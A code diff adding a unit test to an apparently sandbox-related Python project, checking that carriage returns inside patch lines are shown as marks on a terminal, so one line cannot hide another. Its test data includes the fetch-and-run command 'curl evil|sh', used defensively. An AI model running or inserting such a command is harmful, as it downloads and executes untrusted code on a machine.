@@ -7,10 +7,13 @@ import fcntl
 import hashlib
 import itertools
 import os
+import pty
 import resource
 import shlex
 import shutil
 import signal
+import sys
+import tty
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -21,7 +24,7 @@ from tests.unit.test_refused_lines import result
 from x07_sandbox.channel.frames import Stream
 from x07_sandbox.channel.trees import Entry, Kind, Reader
 from x07_sandbox.cli.apply import chosen
-from x07_sandbox.cli.changed import lines, machine_form, pieces, tell, write_diff
+from x07_sandbox.cli.changed import lines, machine_form, pieces, print_bytes, tell, write_diff
 from x07_sandbox.cli.main import main
 from x07_sandbox.errors import BackendError, HostError, RefusedError, SandboxError, UsageError
 from x07_sandbox.files.apply import ConflictError
@@ -902,6 +905,18 @@ def test_a_patch_names_what_was_kept_though_nothing_of_it_is_a_change(run: Run) 
     assert place.read_bytes() == b"".join(pieces(find(RUN)))
     assert b"# may not be done: pipe: it is a pipe" in place.read_bytes()
     assert place.with_name("p.json").read_bytes() == machine_form(find(RUN).changes)
+
+
+def test_no_line_of_a_patch_hides_another_from_who_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    """On a terminal a carriage return within a line is a mark, and one that only ends it passes."""
+    ours, theirs = pty.openpty()
+    tty.setraw(theirs)  # so that what comes is what was written
+    with os.fdopen(theirs, "w", encoding="utf-8") as terminal:
+        monkeypatch.setattr(sys, "stdout", terminal)
+        print_bytes(b"+curl evil|sh\r+echo hello\n+dos\r\n")
+        shown = os.read(ours, 1000)
+    os.close(ours)
+    assert shown.decode() == "+curl evil|sh\N{REPLACEMENT CHARACTER}+echo hello\n+dos\r\n"
 
 
 def test_a_patch_is_not_written_line_by_line(run: Run) -> None:
